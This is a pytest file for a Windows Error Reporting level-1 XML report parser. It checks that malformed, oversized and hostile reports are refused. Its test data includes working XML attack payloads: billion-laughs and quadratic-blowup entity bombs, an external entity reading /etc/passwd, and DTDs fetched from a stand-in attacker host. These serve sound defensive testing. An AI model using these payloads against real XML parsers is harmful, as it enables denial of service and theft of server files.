"""Hostile level-1 reports: XML entity tricks, oversize and malformed documents are refused."""

from __future__ import annotations

import codecs

import pytest

from openwer.errors import FormatError
from openwer.formats.mscer2_report import MAX_LEVEL1_REPORT_BYTES, parse_level1_report

MINIMAL = b'<WERREPORT><EVENTINFO eventtype="APPCRASH"/></WERREPORT>'

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE WERREPORT [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<WERREPORT><EVENTINFO eventtype="&lol9;"/></WERREPORT>"""

QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?><!DOCTYPE WERREPORT [<!ENTITY a "'
    + b"x" * 50_000
    + b'">]><WERREPORT><EVENTINFO eventtype="&a;&a;&a;&a;&a;&a;&a;&a;"/></WERREPORT>'
)

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE WERREPORT [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<WERREPORT><EVENTINFO eventtype="&secret;"/></WERREPORT>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE WERREPORT [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<WERREPORT><EVENTINFO eventtype="APPCRASH"/></WERREPORT>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE WERREPORT SYSTEM "http://attacker.invalid/werreport.dtd">
<WERREPORT><EVENTINFO eventtype="APPCRASH"/></WERREPORT>"""

EMPTY_DTD = b"""<!DOCTYPE WERREPORT><WERREPORT><EVENTINFO eventtype="APPCRASH"/></WERREPORT>"""


def test_minimal_report_is_valid() -> None:
    """The starting point of the variants below is accepted."""
    assert parse_level1_report(MINIMAL).event_type == "APPCRASH"


@pytest.mark.parametrize(
    "data",
    [
        BILLION_LAUGHS,
        QUADRATIC_BLOWUP,
        EXTERNAL_ENTITY,
        PARAMETER_ENTITY,
        EXTERNAL_DTD,
        EMPTY_DTD,
        codecs.BOM_UTF16_LE + BILLION_LAUGHS.decode().encode("utf-16-le"),
    ],
    ids=[
        "billion-laughs",
        "quadratic-blowup",
        "external-entity",
        "parameter-entity",
        "external-dtd",
        "empty-dtd",
        "billion-laughs-utf16",
    ],
)
def test_entity_tricks_are_refused(data: bytes) -> None:
    """Any DTD is refused, so no entity is ever declared, expanded or fetched."""
    with pytest.raises(FormatError, match=r"DTDs, entities and external references are refused"):
        parse_level1_report(data)


def test_undeclared_entity_is_not_well_formed() -> None:
    """An entity reference without a declaration is simply malformed XML."""
    data = b'<WERREPORT><EVENTINFO eventtype="&xxe;"/></WERREPORT>'
    with pytest.raises(FormatError, match=r"not well-formed XML \(undefined entity"):
        parse_level1_report(data)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", r"the body is empty"),
        (b"\x00\x01\x02", r"not well-formed XML"),
        (b"<WERREPORT>", r"not well-formed XML"),
        (b"Bucket=500\r\n", r"not well-formed XML"),
        (b'<?xml version="1.0" encoding="x-unknown"?><WERREPORT/>', r"unknown encoding"),
        (
            b'<?xml version="1.0" encoding="UTF-16"?><WERREPORT/>',
            r"encoding specified in XML declaration is incorrect",
        ),
        (codecs.BOM_UTF16_LE + b"<\x00W", r"not well-formed XML"),
        (b"<REPORT/>", r"the root element is 'REPORT', not WERREPORT"),
        (b"<WERREPORT/>", r"no EVENTINFO eventtype"),
        (b'<WERREPORT><EVENTINFO reporttype="2"/></WERREPORT>', r"no EVENTINFO eventtype"),
        (MINIMAL.replace(b"APPCRASH", b""), r"eventtype is 0 characters; it must be 1 to 64"),
        (MINIMAL.replace(b"APPCRASH", b"E" * 65), r"eventtype is 65 characters"),
        (MINIMAL.replace(b"APPCRASH", b"A&#10;B"), r"eventtype contains a control character"),
        (MINIMAL.replace(b"APPCRASH", b"A&#1;B"), r"not well-formed XML \(reference to invalid"),
        (MINIMAL.replace(b"/>", b' reporttype="two"/>'), r"reporttype='two' is not a decimal"),
        (MINIMAL.replace(b"/>", b' reporttype="-2"/>'), r"reporttype='-2' is not a decimal"),
        (
            MINIMAL.replace(b"/>", b' reporttype="4294967296"/>'),
            r"reporttype='4294967296' is not a decimal number from 0 to 2147483647",
        ),
        (
            MINIMAL.replace(b"/>", b' eventtime="' + b"9" * 25 + b'"/>'),
            r"eventtime='9+' is not a decimal",
        ),
    ],
)
def test_malformed_reports(data: bytes, message: str) -> None:
    """Malformed XML, a wrong root, a missing or bad event and bad numbers are FormatErrors."""
    with pytest.raises(FormatError, match=r"^MS-CER2 level 1 report: .*" + message):
        parse_level1_report(data)


def _with_signature(elements: str) -> bytes:
    return MINIMAL.replace(
        b"</WERREPORT>", f"<SIGNATURE>{elements}</SIGNATURE></WERREPORT>".encode()
    )


@pytest.mark.parametrize(
    ("elements", "message"),
    [
        (
            "".join(f'<PARAMETER id="{i}" name="P" value="v"/>' for i in range(11)),
            r"more than 10 parameters",
        ),
        ('<PARAMETER id="1" name="a" value="1"/>' * 2, r"a PARAMETER id is missing or repeated"),
        ('<PARAMETER name="a" value="1"/>', r"a PARAMETER id is missing or repeated"),
        ('<PARAMETER id="64" name="a" value="1"/>', r"PARAMETER id='64' is not a decimal number"),
        ('<PARAMETER id="x" name="a" value="1"/>', r"PARAMETER id='x' is not a decimal number"),
        (f'<PARAMETER id="0" name="a" value="{"v" * 260}"/>', r"PARAMETER value is 260 char"),
        (f'<PARAMETER id="0" name="{"n" * 129}" value="v"/>', r"PARAMETER name is 129 char"),
        ('<PARAMETER id="0" name="a" value="x&#13;y"/>', r"PARAMETER value contains a control"),
        (
            '<SECONDARYPARAMETER name="s" value="v"/>' * 33,
            r"more than 32 secondary parameters",
        ),
        (
            f'<SECONDARYPARAMETER name="s" value="{"v" * 260}"/>',
            r"SECONDARYPARAMETER value is 260 characters",
        ),
    ],
    ids=[
        "eleven",
        "repeated-id",
        "missing-id",
        "id-over-63",
        "id-not-a-number",
        "long-value",
        "long-name",
        "control-in-value",
        "many-secondary",
        "long-secondary",
    ],
)
def test_signature_limits(elements: str, message: str) -> None:
    """WER's signature limits hold for level-1 reports too."""
    with pytest.raises(FormatError, match=r"^MS-CER2 level 1 report: " + message):
        parse_level1_report(_with_signature(elements))


def test_file_limits() -> None:
    """A FILES list is bounded, and every FILE needs a name and a numeric type."""
    many = "".join(f'<FILE filetype="5" filename="f{i}"/>' for i in range(257))
    cases = [
        (many, r"more than 256 files"),
        ('<FILE filetype="5"/>', r"FILE filename is 0 characters"),
        ('<FILE filetype="five" filename="a"/>', r"FILE filetype='five' is not a decimal"),
        (f'<FILE filename="{"a" * 1025}"/>', r"FILE filename is 1025 characters"),
    ]
    for elements, message in cases:
        data = MINIMAL.replace(b"</WERREPORT>", f"<FILES>{elements}</FILES></WERREPORT>".encode())
        with pytest.raises(FormatError, match=r"^MS-CER2 level 1 report: " + message):
            parse_level1_report(data)


def test_oversized_report_is_refused_before_parsing() -> None:
    """A body over 256 KiB is refused without being parsed."""
    data = MINIMAL.replace(
        b"<EVENTINFO", b"<!--" + b"x" * MAX_LEVEL1_REPORT_BYTES + b"--><EVENTINFO"
    )
    with pytest.raises(FormatError, match=r"bytes is over the 262144-byte limit"):
        parse_level1_report(data)


def test_deep_nesting_within_the_limit_is_harmless() -> None:
    """Thousands of nested unknown elements are parsed and ignored, without recursion."""
    deep = b"<X>" * 20_000 + b"</X>" * 20_000
    data = MINIMAL.replace(b"</WERREPORT>", deep + b"</WERREPORT>")
    assert parse_level1_report(data).event_type == "APPCRASH"


def test_long_attribute_on_an_ignored_element_is_harmless() -> None:
    """Unknown elements are not validated, whatever their attributes."""
    data = _with_signature(f'<NOTE value="{"v" * 5000}"/>')
    assert parse_level1_report(data).parameters == ()
